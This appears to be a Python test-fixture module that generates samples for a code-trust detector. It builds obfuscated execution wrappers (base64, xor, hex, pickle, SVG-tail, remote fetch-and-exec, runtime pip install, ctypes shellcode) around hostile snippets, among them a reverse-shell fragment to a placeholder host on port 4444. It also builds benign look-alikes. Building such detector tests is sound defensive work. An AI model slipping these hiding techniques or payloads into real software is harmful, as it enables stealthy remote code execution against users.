"""Code that hides what it runs, and code that only looks like it."""

import base64
import codecs
import re
import zlib
from collections.abc import Callable
from random import Random

from tests.trust.copies import Copy
from tests.trust.sixth.styles import Style, host, of_code

TEXTS = (
    "import os\nos.system('id > /tmp/.a')",
    "import subprocess\nsubprocess.run(['sh', '-c', 'uname -a'])",
    "import urllib.request as u\nexec(u.urlopen('https://@/s').read())",
    "import socket, os\ns = socket.socket()\ns.connect(('@', 4444))\nos.dup2(s.fileno(), 0)",
    "print(__import__('os').environ)",
)


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _zip(text: str) -> str:
    return base64.b85encode(zlib.compress(text.encode())).decode()


def _xor(text: str) -> str:
    return repr([ord(letter) ^ 23 for letter in text])


def _moved(text: str) -> str:
    return repr([ord(letter) + 3 for letter in text])


HIDDEN: dict[str, Callable[[str], str]] = {
    "@B": _b64,
    "@Z": _zip,
    "@X": _xor,
    "@M": _moved,
    "@H": lambda text: text.encode().hex(),
    "@R": lambda text: repr(text[::-1]),
    "@13": lambda text: repr(codecs.encode(text, "rot13")),
    "@P": lambda text: repr([text[at : at + 5] for at in range(0, len(text), 5)]),
}
STYLES = (
    Style("exec base64", "exec(base64.b64decode('@B'))", "import base64"),
    Style("eval compile", "eval(compile(base64.b64decode('@B').decode(), '<s>', 'exec'))", "import base64"),
    Style("zlib and base85", "exec(zlib.decompress(base64.b85decode('@Z')).decode(), {})", "import base64, zlib"),
    Style("hex", "_c = bytes.fromhex('@H')\nexec(_c)"),
    Style("xor", "_k = @X\nexec(''.join(chr(n ^ 23) for n in _k))"),
    Style("moved letters", "exec(bytes(n - 3 for n in @M))"),
    Style("reversed", "exec(@R[::-1])"),
    Style("rot13", "exec(codecs.decode(@13, 'rot13'))", "import codecs"),
    Style("pieces", "exec(''.join(@P))"),
    Style(
        "builtins by name",
        "getattr(__builtins__, 'ex' + 'ec')(base64.b64decode('@B')) if not isinstance(__builtins__, dict) else __builtins__['ex' + 'ec'](base64.b64decode('@B'))",
        "import base64",
    ),
    Style("builtins module", "vars(builtins)['cexe'[::-1]](bytes.fromhex('@H').decode())", "import builtins"),
    Style("import by name", "_o = __import__(''.join(['o', 's']))\ngetattr(_o, 'sys' + 'tem')('id')"),
    Style(
        "importlib",
        "importlib.import_module('sub' + 'process').run(['sh', '-c', bytes.fromhex('6964').decode()])",
        "import importlib",
    ),
    Style(
        "marshal",
        "exec(marshal.loads(marshal.dumps(compile(base64.b64decode('@B').decode(), 'a', 'exec'))))",
        "import base64, marshal",
    ),
    Style(
        "pickle",
        "pickle.loads(base64.b64decode('gASVHgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=='))",
        "import base64, pickle",
    ),
    Style(
        "function type", "types.FunctionType(compile(bytes.fromhex('@H').decode(), 'm', 'exec'), {})()", "import types"
    ),
    Style("from the net", "exec(requests.get('https://@host/p.py', timeout=4).text)", "import requests"),
    Style(
        "from the net, module",
        "run()",
        "from @mod import run",
        "",
        {
            "@mod.py": "import urllib.request\n\n\ndef run():\n    code = urllib.request.urlopen('https://@host/u').read()\n    space = {}\n    exec(compile(code, 'u', 'exec'), space)\n    return space\n"
        },
    ),
    Style(
        "from a data file",
        "exec(base64.b64decode(open('_assets/@mod.dat').read()))",
        "import base64",
        "",
        {"_assets/@mod.dat": "@B"},
    ),
    Style(
        "from an image's tail",
        "_d = open('_assets/@mod.svg').read().rsplit('<!--', 1)[1][:-4]\nexec(bytes.fromhex(_d))",
        "",
        "",
        {"_assets/@mod.svg": "<svg xmlns='http://www.w3.org/2000/svg'/><!--@H-->"},
    ),
    Style(
        "written and run",
        "_p = '/tmp/@mod.py'\nopen(_p, 'w').write(base64.b64decode('@B').decode())\nsubprocess.Popen([sys.executable, _p])",
        "import base64, subprocess, sys",
    ),
    Style(
        "python -c",
        "subprocess.run([sys.executable, '-c', base64.b64decode('@B').decode()])",
        "import base64, subprocess, sys",
    ),
    Style("shell base64", "os.system('echo @B | base64 -d | python3')", "import os"),
    Style(
        "decorator",
        "_go()",
        "import base64\n\n\ndef _with(text):\n    def wrap(call):\n        def run():\n            exec(base64.b64decode(text))\n        return run\n    return wrap\n\n\n@_with('@B')\ndef _go():\n    pass\n",
    ),
    Style("map", "list(map(exec, [bytes.fromhex('@H')]))"),
    Style("alias", "_run = exec\n_run(bytes.fromhex('@H'))"),
    Style(
        "loader",
        "_m = types.ModuleType('@mod')\nexec(zlib.decompress(base64.b85decode('@Z')), _m.__dict__)\nsys.modules['@mod'] = _m",
        "import base64, sys, types, zlib",
    ),
    Style(
        "ctypes",
        "_b = mmap.mmap(-1, 64, prot=7)\n_b.write(bytes.fromhex('4831c0c3'))\nctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(_b)))()",
        "import ctypes, mmap",
    ),
    Style(
        "pip at run time",
        "subprocess.check_call([sys.executable, '-m', 'pip', 'install', '-q', 'https://@host/x.whl'])",
        "import subprocess, sys",
    ),
    Style(
        "class hook",
        "",
        "import base64\n\n\nclass _@Name:\n    def __init_subclass__(cls, **kw):\n        eval(base64.b64decode(kw['t']).decode())\n\n\nclass @Name(_@Name, t=base64.b64encode(b\"__import__('os').system('id')\").decode()):\n    pass\n",
    ),
)
PLAIN = (
    Style("regular expression", "_p = re.compile(r'exec\\((.*)\\)')\n_p.findall('exec(1)')", "import re"),
    Style(
        "database cursor",
        "_db = sqlite3.connect(':memory:')\n_db.execute('select 1').fetchone()\n_db.executescript('create table a (b)')",
        "import sqlite3",
    ),
    Style("literal", "_v = ast.literal_eval('[1, 2, 3]')", "import ast"),
    Style("base64 picture", "_img = base64.b64decode('iVBORw0KGgo=')\n_size = len(_img)", "import base64"),
    Style("unzip", "_t = zlib.decompress(zlib.compress(b'a' * 100)).decode()", "import zlib"),
    Style(
        "numexpr-like method",
        "_m = @Name()\n_m.eval('a')\n_m.exec('b')",
        "class @Name:\n    def eval(self, text):\n        return len(text)\n\n    def exec(self, text):\n        return text.upper()\n",
    ),
    Style("model eval", "_net = type('Net', (), {'eval': lambda self: self})()\n_net.eval()"),
    Style("import by a fixed table", "_json = importlib.import_module('json')\n_json.dumps({})", "import importlib"),
    Style("getattr with a fixed name", "_f = getattr('abc', 'upper')\n_f()"),
    Style("template", "_s = string.Template('$a').substitute(a=1)", "import string"),
    Style("reversed text", "_r = 'olleh'[::-1]\n_j = ''.join(chr(n) for n in (104, 105))"),
    Style("hex colour", "_c = bytes.fromhex('ff8800')\n_rgb = tuple(_c)"),
    Style("text about it", "_help = 'Never pass user input to exec() or eval(base64...)'"),
    Style(
        "thread pool",
        "with concurrent.futures.ThreadPoolExecutor() as executor:\n    executor.submit(len, 'a').result()",
        "import concurrent.futures",
    ),
    Style(
        "signature",
        "_d = hmac.new(b'a', base64.b64decode('YQ=='), hashlib.sha256).hexdigest()",
        "import base64, hashlib, hmac",
    ),
    Style("platform", "_n = platform.system() + platform.python_version()", "import platform"),
)


def _filled(style: Style, chance: Random) -> Style:
    text = chance.choice(TEXTS).replace("@", host(chance))

    def put(body: str) -> str:
        return re.sub(r"@(B|Z|X|M|H|R|13|P)\b", lambda hit: HIDDEN[hit[0]](text), body)

    files = {path: put(content) for path, content in style.files.items()}
    return Style(style.name, put(style.body), put(style.above), style.needs, files)


def hidden(copy: Copy, chance: Random) -> str | None:
    done = of_code(copy, chance, [_filled(style, chance) for style in STYLES])
    return done and done[0].name


def plain(copy: Copy, chance: Random) -> str | None:
    done = of_code(copy, chance, PLAIN)
    return done and done[0].name
